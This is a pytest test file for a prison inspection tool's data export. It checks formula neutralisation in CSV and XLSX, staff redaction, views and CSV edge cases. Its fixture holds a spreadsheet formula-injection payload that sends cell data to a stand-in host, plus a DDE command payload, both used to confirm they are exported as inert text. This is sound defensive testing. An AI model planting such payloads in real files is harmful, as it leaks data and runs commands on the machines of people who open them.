"""Exports an analyst can open and share safely: no formula runs in a spreadsheet, every
column has a redaction policy that holds, views everywhere, one convention for shares."""

from __future__ import annotations

import csv
import json
import sqlite3
from pathlib import Path

import pytest
from click.testing import CliRunner

from irp_field import figures
from irp_field.cli import main
from irp_field.core.ids import keyed_id
from irp_field.core.visit_file import VisitFile
from irp_field.interchange.export import TABLES, VIEWS, column_names, export_visits
from irp_field.interchange.redaction import POLICY

HYPERLINK = '=HYPERLINK("http://example.invalid/?"&A1,"x")'
CALC = "=cmd|' /C calc'!A0"


@pytest.fixture
def hostile(hull_path: Path) -> Path:
    with VisitFile.open(hull_path) as visit, visit.transaction():
        visit.insert("note", {"text": HYPERLINK, "tags": "=1+1", "taken_at": "2022-03-15T10:00",
                              "author": CALC, "source": "staff"})  # fmt: skip
        visit.insert("team_member", {"name": CALC, "role": "+inspector", "body": "HMIP"})
    return hull_path


def test_every_exported_column_has_a_redaction_policy() -> None:
    for table in TABLES:
        columns = column_names(table)
        assert set(POLICY[table.name]) == set(columns), table.name
        assert all(
            p in ("keep", "blank", "id", "staff", "staff-detail", "figure-definition")
            or p.startswith("pseudonym:")
            for p in POLICY[table.name].values()
        )


def test_a_team_member_s_role_is_blanked_unless_staff_names_are_kept() -> None:
    """Found walking: a redacted export kept roles such as "GP specialist adviser", which
    the published report's team table ties to one name."""
    from irp_field.interchange.redaction import redact_rows

    rows = [("v", "t1", "Dr Ann Lee", "GP specialist adviser", "CQC")]
    columns = ["visit_id", "id", "name", "role", "body"]
    hidden = redact_rows("team_member", columns, rows, "k" * 64, keep_staff_names=False)
    assert hidden[0][3] == "" and "Ann" not in hidden[0][2] and hidden[0][4] == "CQC"
    kept = redact_rows("team_member", columns, rows, "k" * 64, keep_staff_names=True)
    assert kept[0][2:] == ("Dr Ann Lee", "GP specialist adviser", "CQC")


def test_xlsx_writes_text_as_text_never_a_formula(hostile: Path, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    for redact in (False, True):
        out = tmp_path / f"x{redact}.xlsx"
        export_visits([hostile], "xlsx", out, redact=redact)
        book = load_workbook(out)
        formulas = [
            (sheet.title, cell.coordinate, cell.value)
            for sheet in book.worksheets
            for row in sheet.iter_rows()
            for cell in row
            if cell.data_type == "f"
        ]
        assert formulas == []
    plain = load_workbook(tmp_path / "xFalse.xlsx")
    texts = {cell.value for row in plain["note"].iter_rows() for cell in row}
    assert HYPERLINK in texts  # kept as the text it is


def test_csv_neutralises_formulas_unless_raw(hostile: Path, tmp_path: Path) -> None:
    export_visits([hostile], "csv", tmp_path / "safe")
    with (tmp_path / "safe" / "note.csv").open(encoding="utf-8") as handle:
        cells = [value for row in csv.reader(handle) for value in row]
    assert "'" + HYPERLINK in cells and "'=1+1" in cells and HYPERLINK not in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@") or c.startswith("-")]
    export_visits([hostile], "csv", tmp_path / "raw", raw=True)
    with (tmp_path / "raw" / "note.csv").open(encoding="utf-8") as handle:
        assert HYPERLINK in [value for row in csv.reader(handle) for value in row]


def test_redaction_holds_staff_tags_and_ids_and_keeps_groups_frames_and_criteria(
    hull_path: Path, tmp_path: Path
) -> None:
    """Groups, frames and criteria are categories, not personal data (issue 21: hashed
    per visit, nine visits' four groups became 36 and no prisons could be compared)."""
    out = tmp_path / "shared.sqlite"
    export_visits([hull_path], "sqlite", out, redact=True)
    data = out.read_bytes()
    with VisitFile.open(hull_path, readonly=True) as visit:
        staff = [r[0] for r in visit.query("SELECT name FROM team_member")]
        groups = [r[0] for r in visit.query("SELECT DISTINCT subject_group FROM toc_period")]
        frames = [r[0] for r in visit.query("SELECT name FROM sample_frame")]
        criteria = [r[0] for r in visit.query("SELECT name FROM sample_criterion")]
        tags = [t for r in visit.query("SELECT tags FROM note") for t in r[0].split(";") if t]
        ids = [r[0] for r in visit.query("SELECT id FROM sample_record")]
        records = visit.query("SELECT frame_id, record FROM sample_record LIMIT 3")
        visit_id = visit.visit_id
    secrets = [s for s in (*staff, *ids, visit_id)]
    assert len(secrets) > 20 and tags
    for secret in secrets:
        if len(secret) >= 6:  # a short tag ("iag") turns up by chance inside other bytes
            assert secret.encode() not in data, secret
    categories = [*groups, *frames, *criteria]
    assert len(categories) > 10
    assert [c for c in categories if c.encode() not in data] == []
    # An id cannot be recomputed from guessable inputs (the frame and the record ref).
    guessed = [keyed_id(visit_id, "sample_record", r[0], r[1]) for r in records]
    assert not any(g.encode() in data for g in guessed)
    conn = sqlite3.connect(out)
    assert conn.execute("SELECT COUNT(*) FROM note WHERE tags != ''").fetchone()[0] == 0
    # Joins still hold: every roll check's location is a location of the export.
    orphans = conn.execute(
        "SELECT COUNT(*) FROM roll_check r LEFT JOIN location l ON l.id = r.location_id "
        "WHERE l.id IS NULL"
    ).fetchone()[0]
    assert orphans == 0
    # The same staff member has one pseudonym wherever the name appears.
    inspectors = {r[0] for r in conn.execute("SELECT DISTINCT inspector FROM roll_check")}
    members = {r[0] for r in conn.execute("SELECT name FROM team_member")}
    assert inspectors and inspectors <= members and all(m.startswith("staff-") for m in members)
    kept = tmp_path / "named.sqlite"
    export_visits([hull_path], "sqlite", kept, redact=True, keep_staff_names=True)
    assert all(name.encode() in kept.read_bytes() for name in staff)


def test_views_in_every_format_and_shares_as_the_figures_give_them(
    hull_path: Path, tmp_path: Path
) -> None:
    from openpyxl import load_workbook

    with VisitFile.open(hull_path, readonly=True) as visit:
        share = figures.compute(visit)["roll.pct_locked_up"].value
    export_visits([hull_path], "sqlite", tmp_path / "h.sqlite")
    pooled = (
        sqlite3.connect(tmp_path / "h.sqlite")
        .execute("SELECT pct_locked_up FROM locked_up_by_visit")
        .fetchone()[0]
    )
    assert share is not None and pooled == pytest.approx(share, abs=1e-4)
    export_visits([hull_path], "csv", tmp_path / "c")
    export_visits([hull_path], "json", tmp_path / "j.json")
    export_visits([hull_path], "xlsx", tmp_path / "x.xlsx")
    document = json.loads((tmp_path / "j.json").read_text())
    book = load_workbook(tmp_path / "x.xlsx")
    for view in VIEWS:
        assert (tmp_path / "c" / f"{view}.csv").exists()
        assert document["tables"][view]
        assert view in book.sheetnames
    sheet = book["roll_check"]
    taken_at = [c.value for c in sheet[1]].index("taken_at") + 1
    letter = sheet.cell(row=1, column=taken_at).column_letter
    assert sheet.auto_filter.ref and sheet.column_dimensions[letter].width > 10
    taken = sheet.cell(row=2, column=taken_at).value
    import datetime as dt

    assert isinstance(taken, dt.datetime)


def test_findings_carry_their_number_and_rendered_text(hull_path: Path, tmp_path: Path) -> None:
    export_visits([hull_path], "sqlite", tmp_path / "h.sqlite")
    rows = (
        sqlite3.connect(tmp_path / "h.sqlite")
        .execute("SELECT number, text, rendered FROM finding WHERE text LIKE '%{{%' LIMIT 1")
        .fetchall()
    )
    [(number, text, rendered)] = rows
    assert number.startswith("3.") and "{{" in text and "{{" not in rendered and rendered


def test_datasette_metadata_has_its_own_name_is_private_and_never_overwrites(
    hull_path: Path, tmp_path: Path
) -> None:
    (tmp_path / "metadata.json").write_text("somebody else's", encoding="utf-8")
    out = tmp_path / "hull.sqlite"
    result = CliRunner().invoke(
        main, ["export", str(hull_path), "--format", "sqlite", "--out", str(out)]
    )
    assert result.exit_code == 0, result.output
    assert f"datasette {out} -m {tmp_path / 'hull.metadata.json'}" in result.output
    assert (tmp_path / "metadata.json").read_text() == "somebody else's"
    assert (tmp_path / "hull.metadata.json").stat().st_mode & 0o777 == 0o600
    out.unlink()
    again = CliRunner().invoke(
        main, ["export", str(hull_path), "--format", "sqlite", "--out", str(out)]
    )
    assert again.exit_code == 1 and "hull.metadata.json: already exists" in again.output


def test_a_visit_without_roll_checks_stays_in_the_combined_view(
    hull_path: Path, tmp_path: Path
) -> None:
    VisitFile.create(
        tmp_path / "quiet.db", establishment="HMP Quiet", start_date="2026-03-02",
        end_date="2026-03-04",
    ).close()  # fmt: skip
    out = tmp_path / "all.sqlite"
    export_visits([hull_path, tmp_path / "quiet.db"], "sqlite", out)
    rows = dict(
        sqlite3.connect(out).execute("SELECT establishment, pct_locked_up FROM locked_up_by_visit")
    )
    assert set(rows) == {"HMP Hull", "HMP Quiet"} and rows["HMP Quiet"] is None


def test_csv_keeps_a_lone_carriage_return_inside_its_value(hull_path: Path, tmp_path: Path) -> None:
    """csv quotes a value holding a line feed but not one holding a lone carriage
    return, which a reader takes for the end of the line: the row would split."""
    text = "seen on A wing\rthen on B wing"
    with VisitFile.open(hull_path) as visit, visit.transaction():
        visit.insert("note", {"text": text, "taken_at": "2022-03-15T10:00", "source": "staff"})
    for raw in (False, True):
        out = tmp_path / f"csv{raw}"
        export_visits([hull_path], "csv", out, raw=raw)
        with (out / "note.csv").open(encoding="utf-8", newline="") as handle:
            rows = list(csv.DictReader(handle))
        assert text in [row["text"] for row in rows]
        with VisitFile.open(hull_path, readonly=True) as visit:
            assert len(rows) == len(visit.query("SELECT id FROM note"))
